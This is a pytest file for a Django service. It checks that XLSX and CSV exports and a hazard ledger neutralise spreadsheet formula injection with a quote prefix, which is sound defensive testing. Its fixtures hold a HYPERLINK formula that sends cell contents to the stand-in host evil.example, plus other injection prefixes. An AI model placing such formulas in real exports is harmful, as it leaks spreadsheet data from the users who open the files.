"""Formula injection (issue 27): text that a spreadsheet program would run as a formula leaves
every XLSX and CSV the service writes as text, through one rule (layers/io/cells.py) shared
by the layer exports (REST and `manage.py export_layer`) and the hazard ledger."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from layers.domain import models
from layers.io import cells, export, ledger, read

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
OTHERS = ["+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1"]


@pytest.fixture
def evil_hazard(db):
    hazard = models.SafetyHazard.objects.order_by("pk").first()
    models.SafetyHazard.objects.filter(pk=hazard.pk).update(name=EVIL, responsible_unit="=1+1")
    return hazard.pk


@pytest.fixture
def evil_viewpoints(db):
    pks = list(models.CulturalViewpoint.objects.order_by("pk").values_list("pk", flat=True))
    for pk, name in zip(pks, [EVIL, *OTHERS], strict=False):
        models.CulturalViewpoint.objects.filter(pk=pk).update(name=name)
    return [EVIL, *OTHERS][: len(pks)]


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_xlsx(data: bytes, names: list[str]) -> None:
    found = xlsx_cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    # openpyxl would read "=…" back as a formula: none is stored in the sheets' XML either.
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for member in book.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(member) and b"<f " not in book.read(member)
    values = {c.value for c in found}
    for name in names:
        assert "'" + name in values, name
        assert name not in values, name


def csv_cells(data: bytes) -> list[str]:
    return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]


def test_one_rule_for_ledger_and_exports():
    assert ledger.neutralise is cells.neutralise is export.neutralise
    assert cells.neutralise(EVIL) == "'" + EVIL
    for text in OTHERS:
        assert cells.neutralise(text).startswith("'")
        assert cells.restore(cells.neutralise(text)) == text
    for plain in ("荷花池", "a=b", "'quoted", "", 3, -2.5, None):
        assert cells.neutralise(plain) == plain and cells.restore(plain) == plain


def test_the_editors_export_of_a_grid_workers_hazard_name(role_client, evil_hazard):
    client = role_client("editor")
    for fmt in ("xlsx", "csv"):
        response = client.get("/api/v1/hazards/export/", {"format": fmt})
        assert response.status_code == 200, response.content[:300]
        if fmt == "xlsx":
            assert_no_formula_in_xlsx(response.content, [EVIL, "=1+1"])
        else:
            values = csv_cells(response.content)
            assert "'" + EVIL in values and EVIL not in values
            assert "'=1+1" in values


def test_the_anonymous_export_of_viewpoint_names(client, evil_viewpoints):
    response = client.get("/api/v1/viewpoints/export/", {"format": "xlsx"})
    assert response.status_code == 200
    assert_no_formula_in_xlsx(response.content, evil_viewpoints)
    response = client.get("/api/v1/viewpoints/export/", {"format": "csv"})
    values = csv_cells(response.content)
    for name in evil_viewpoints:
        assert "'" + name in values and name not in values


def test_the_export_command_and_the_round_trip(tmp_path, evil_hazard, evil_viewpoints):
    call_command(
        "export_layer", "hazards", "xlsx", "--out", str(tmp_path / "h"), stdout=io.StringIO()
    )
    assert_no_formula_in_xlsx((tmp_path / "h.xlsx").read_bytes(), [EVIL])
    call_command(
        "export_layer", "viewpoints", "csv", "--out", str(tmp_path / "v"), stdout=io.StringIO()
    )
    values = csv_cells((tmp_path / "v.csv").read_bytes())
    assert "'" + EVIL in values and EVIL not in values
    # The import reads our exports back as they were written (the mark comes off).
    names = [row["name"] for row in read.read(tmp_path / "v.csv").rows]
    assert set(evil_viewpoints) <= set(names)
    names = [row["name"] for row in read.read(tmp_path / "h.xlsx").rows]
    assert EVIL in names


def test_the_ledger_marks_the_same_text(role_client, evil_hazard):
    response = role_client("editor").get("/api/v1/hazards/ledger.xlsx")
    assert response.status_code == 200
    assert_no_formula_in_xlsx(response.content, [EVIL])
